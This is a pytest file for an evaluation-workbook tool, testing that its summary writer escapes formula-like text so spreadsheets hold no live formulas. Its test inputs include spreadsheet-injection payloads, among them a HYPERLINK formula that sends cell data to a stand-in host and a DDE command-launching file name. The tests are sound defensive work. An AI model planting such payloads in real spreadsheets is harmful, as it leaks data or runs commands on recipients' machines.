"""The summary workbook and the formula-injection-safe writer behind it."""

from __future__ import annotations

import datetime as dt
import re
import hashlib
import shutil
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from perfeval_xl.check.findings import CellRef, Finding, Report
from perfeval_xl.outputs import safe_text
from perfeval_xl.outputs.summary import (
    FINDINGS_HEADER,
    FINDINGS_SHEET,
    SUMMARY_HEADER,
    SUMMARY_SHEET,
    Identity,
    identify_path,
    write_summary,
)
from perfeval_xl.rules.base import Severity

EXAMPLES = Path(__file__).resolve().parent.parent / "workbook_templates" / "examples"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-2", "@SUM(A1:A3)", "\tTAB", "\rCR", "=1+1"]


# -- safe_text --------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_trigger_text_is_escaped_and_stays_text(text):
    ws = Workbook().active
    c = safe_text.write(ws["A1"], text)
    assert c.data_type == "s"
    assert c.value == "'" + text
    assert safe_text.is_escaped(text, c.value)


@pytest.mark.parametrize("value", [0, -2, -1234.5, Decimal("-3080.25"), 3, True, dt.date(2024, 3, 31)])
def test_numbers_and_dates_pass_through(value):
    ws = Workbook().active
    c = safe_text.write(ws["A1"], value)
    assert c.value == value and c.data_type in ("n", "b", "d")


def test_ordinary_text_error_codes_control_characters_and_limits():
    ws = Workbook().active
    assert safe_text.write(ws["A1"], "示例区农业农村局").value == "示例区农业农村局"
    na = safe_text.write(ws["A2"], "#N/A")  # openpyxl would bind this as an error cell
    assert (na.value, na.data_type) == ("#N/A", "s")
    assert safe_text.write(ws["A3"], "a\x00b\x1fc\nd").value == "abc\nd"
    assert len(safe_text.write(ws["A4"], "x" * 40_000).value) == safe_text.MAX_CELL_TEXT
    assert safe_text.cell_value(float("nan")) == "nan"
    assert safe_text.cell_value(Decimal("Infinity")) == "Infinity"
    assert safe_text.write(ws["A5"], None).value is None


# -- summary ----------------------------------------------------------------------------


def _report(name: str, findings=(), checked=True) -> Report:
    return Report(
        file=name,
        sha256="ab" * 32,
        template_version="1.0",
        ruleset_version="1.0",
        checked_at="2026-01-01T09:00:00+08:00",
        findings=list(findings),
        checked=checked,
    )


def _all_cells(path: Path):
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_hostile_department_names_land_as_text_numbers_stay_numbers(tmp_path):
    err = Finding("SUM001", Severity.ERROR, "=SUM(1,1) 不是公式", (CellRef("收入支出", "B13", "inc.total_year", Decimal("3080")),),
                  expected=Decimal("3180.5"), actual=Decimal("3080"), difference=Decimal("-100.5"), title="本年收入合计不符")
    reports = [_report(f"收件箱/{i}.xlsx", [err] if i == 0 else []) for i in range(len(HOSTILE))]
    reports.append(_report("=cmd|' /C calc'!A0.xlsx"))
    who = {r.file: Identity(name, 2023) for r, name in zip(reports, HOSTILE)}
    out = write_summary(tmp_path / "汇总.xlsx", reports, who)
    wb = load_workbook(out)
    ws = wb[SUMMARY_SHEET]
    assert [c.value for c in ws[1]] == list(SUMMARY_HEADER)
    for row, name in zip(ws.iter_rows(min_row=2, max_row=len(HOSTILE) + 1), HOSTILE):
        dept = row[2]
        assert (dept.value, dept.data_type) == ("'" + name, "s")
        assert row[3].value == 2023 and row[3].data_type == "n"  # year
        assert all(c.data_type == "n" for c in row[6:9])  # counts
    first = [c.value for c in ws[2]]
    assert first[5:9] == ["不合格", 1, 0, 0]
    assert [c.value for c in ws[3]][5] == "合格"
    last = ws.cell(len(reports) + 1, 2)
    assert last.value.startswith("'=") and last.data_type == "s"
    assert not any(c.data_type == "f" for c in _all_cells(out))

    fs = wb[FINDINGS_SHEET]
    assert [c.value for c in fs[1]] == list(FINDINGS_HEADER)
    detail = {h: c for h, c in zip(FINDINGS_HEADER, fs[2])}
    assert detail["说明"].value == "'=SUM(1,1) 不是公式"
    assert (detail["应为"].value, detail["填报数"].value, detail["差异"].value) == (3180.5, 3080, -100.5)
    assert all(detail[k].data_type == "n" for k in ("应为", "填报数", "差异"))
    assert detail["字段"].value == "本年收入合计" and detail["单元格"].value == "B13"
    assert fs.max_row == 2
    assert ws.auto_filter.ref == f"A1:O{len(reports) + 1}" and ws.freeze_panes == "A2"


def test_unreadable_file_is_reported_not_hidden(tmp_path):
    out = write_summary(tmp_path / "s.xlsx", [_report("坏文件.xlsx", checked=False)])
    row = [c.value for c in load_workbook(out)[SUMMARY_SHEET][2]]
    assert row[1] == "坏文件.xlsx" and row[2] is None and row[5] == "无法校验"


def test_identity_read_from_the_cover(tmp_path):
    who = identify_path(EXAMPLES / "synthetic.xlsx")
    assert (who.department, who.year) == ("示例区农业农村局（虚构示例）", 2023)
    # V1's evaluator rows are not scored yet: no total, no grade on part of the table
    assert who.score is None and who.grade == "已评 33 / 100 分，尚有 2 项待评"
    bad = tmp_path / "x.xlsx"
    bad.write_text("hello", encoding="utf-8")
    assert identify_path(bad) == Identity()


def test_formula_like_department_end_to_end(tmp_path):
    """A sender typed "=HYPERLINK(…)" as the department: the cover holds text, and so does our summary."""
    from perfeval_xl.template.writer import build_template

    name = '=HYPERLINK("http://evil.example","点我")'
    src = build_template(tmp_path / "in.xlsx", values={"dept.name": name, "report.year": 2024})
    before = hashlib.sha256(src.read_bytes()).hexdigest()
    who = identify_path(src)
    assert (who.department, who.year) == (name, 2024)
    out = write_summary(tmp_path / "汇总.xlsx", [_report(str(src))], {str(src): who})
    c = load_workbook(out)[SUMMARY_SHEET]["C2"]
    assert (c.value, c.data_type) == ("'" + name, "s")
    assert hashlib.sha256(src.read_bytes()).hexdigest() == before


def test_summary_written_atomically_over_an_old_one(tmp_path):
    target = tmp_path / "汇总.xlsx"
    shutil.copy(EXAMPLES / "synthetic.xlsx", target)  # an old file in the way is replaced whole
    write_summary(target, [_report("a.xlsx")])
    assert load_workbook(target).sheetnames[:2] == [SUMMARY_SHEET, FINDINGS_SHEET]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["汇总.xlsx"]


# -- what a reviewer sees ----------------------------------------------------------------


def _with_evaluator_scores(path):
    """The synthetic department with its two evaluator rows scored: a complete 100-point table."""
    wb = load_workbook(path)
    for name, value in (("score_e01_given", 40), ("score_e01_reason", "资产管理制度执行不到位"), ("score_e02_given", 25),
                        ("score_e02_reason", "满意度调查样本偏少")):
        (sheet, coord), = list(wb.defined_names[name].destinations)
        wb[sheet][coord.replace("$", "")].value = value
    wb.save(path)
    return path


def test_check_summary_has_scores_grades_readable_times_and_short_hashes(tmp_path):
    from perfeval_xl.outputs.summary import CHART_SHEET, PIVOT_SHEET
    from perfeval_xl.outputs.timefmt import local_display

    scored = _with_evaluator_scores(shutil.copy(EXAMPLES / "synthetic.xlsx", tmp_path / "scored.xlsx"))
    paths = sorted(EXAMPLES.glob("*.xlsx")) + [scored]
    from perfeval_xl.check import check_path

    reports = [check_path(p) for p in paths]
    who = {r.file: identify_path(p) for r, p in zip(reports, paths)}
    out = write_summary(tmp_path / "汇总.xlsx", reports, who)
    wb = load_workbook(out)
    ws = wb[SUMMARY_SHEET]
    head = [c.value for c in ws[1]]
    assert {"得分", "等级"} <= set(head) and head[11] == "校验时间（北京时间）"
    rows = [dict(zip(head, (c.value for c in row))) for row in ws.iter_rows(min_row=2)]
    synthetic = next(r for r in rows if r["文件"].endswith("synthetic.xlsx"))
    assert synthetic["得分"] is None and synthetic["等级"] == "已评 33 / 100 分，尚有 2 项待评"
    full = next(r for r in rows if r["文件"].endswith("scored.xlsx"))
    assert full["得分"] == who[next(f for f in who if f.endswith("scored.xlsx"))].score and full["等级"] in "优良中差"
    for r, report in zip(rows, reports):
        assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", r["校验时间（北京时间）"])
        assert r["校验时间（北京时间）"] == local_display(report.checked_at)
        assert r["SHA-256（前 16 位）"] == report.sha256[:16] and r["SHA-256"] == report.sha256
    letter = {h: c.column_letter for h, c in zip(head, ws[1])}
    assert ws.column_dimensions[letter["SHA-256"]].hidden
    # wide enough for what they hold, or wrapped: nothing is cut off
    for h in ("文件", "部门（单位）"):
        width = ws.column_dimensions[letter[h]].width
        for c in ws[letter[h]][1:]:
            from perfeval_xl.outputs.summary import display_width

            assert display_width(c.value) <= width - 1 or c.alignment.wrap_text, (h, c.value)
    pivot = wb[PIVOT_SHEET]
    table = [[c.value for c in row] for row in pivot.iter_rows()]
    assert table[0][0] == "规则" and table[0][-1] == "合计" and table[-1][0] == "合计"
    errors = sum(r.counts()["error"] for r in reports)
    assert table[-1][-1] == errors and sum(row[-1] for row in table[1:-1]) == errors
    charts = wb[CHART_SHEET]._charts
    assert len(charts) == 2


def test_local_display_is_beijing_time_and_configurable(monkeypatch):
    from perfeval_xl.outputs.timefmt import local_display

    assert local_display("2026-01-01T09:00:00+00:00") == "2026-01-01 17:00"
    assert local_display("2026-01-01T23:30:00Z") == "2026-01-02 07:30"
    assert local_display("") == "" and local_display("不是时间") == "不是时间"
    monkeypatch.setenv("PERFEVAL_TZ", "Europe/Berlin")
    assert local_display("2026-01-01T09:00:00+00:00") == "2026-01-01 10:00"


def test_errors_pivot_sorts_busiest_rule_first_and_totals():
    import pandas as pd

    from perfeval_xl.outputs.summary import errors_by_rule_and_department

    f = pd.DataFrame({
        "severity_id": ["error", "error", "error", "warning", "error"],
        "rule_id": ["A1", "B2", "B2", "B2", "B2"],
        "department": ["甲", "甲", "乙", "乙", None],
        "n": [1, 2, 1, 2, 1],
    })
    t = errors_by_rule_and_department(f)
    assert list(t.index) == ["B2", "A1", "合计"]
    assert t.loc["B2", "合计"] == 3 and t.loc["合计", "合计"] == 4
    assert t.loc["B2", "（未能识别）"] == 1 and t.loc["A1", "乙"] == 0


def test_intake_summary_shares_the_writers_pivot_and_beijing_time(tmp_path):
    from perfeval_xl.intake.summary import DEPT_HEADER, _write_xlsx

    def entry(i, dept, status, errors, score):
        return {"id": i, "department": dept, "year": "2024", "status": status, "verdict": status, "errors": errors,
                "warnings": 0, "infos": 0, "security": 0, "score": score, "grade": "良" if score else None,
                "template_version": "1.0", "sender": "a@b.cn", "received": "2026-03-01T01:05:00+00:00",
                "file": f"{i}.xlsx", "attempts": 1, "notes": "", "sha256": "cd" * 32, "folder": "x"}

    doc = {
        "departments": [entry(1, "甲局", "failed", 2, 81.5), entry(2, '=HYPERLINK("x")', "passed", 0, 90.0)],
        "unattributed": [entry(3, None, "unreadable", 0, None)],
        "errors_by_rule": {"SUM001": 2},
        "findings": [{"id": 1, "department": "甲局", "file": "1.xlsx", "rule_id": "SUM001", "severity": "error",
                      "title": "合计不符", "sheet": "收入支出", "address": "B13", "message": "m"}] * 2,
    }
    out = tmp_path / "summary.xlsx"
    _write_xlsx(doc, out)
    wb = load_workbook(out)
    ws = wb["汇总"]
    head = [c.value for c in ws[1]]
    assert head == list(DEPT_HEADER)
    rows = [dict(zip(head, (c.value for c in r))) for r in ws.iter_rows(min_row=2)]
    assert rows[0]["接收时间（北京时间）"] == "2026-03-01 09:05"
    assert rows[1]["部门（单位）"] == "'=HYPERLINK(\"x\")" and rows[2]["部门（单位）"] == "（未能识别）"
    assert rows[0]["得分"] == 81.5 and rows[0]["SHA-256（前 16 位）"] == "cd" * 8
    pivot = [[c.value for c in r] for r in wb["错误分布"].iter_rows()]
    assert pivot == [["规则", "甲局", "合计"], ["SUM001", 2, 2], ["合计", 2, 2]]
    assert len(wb["图表"]._charts) == 2
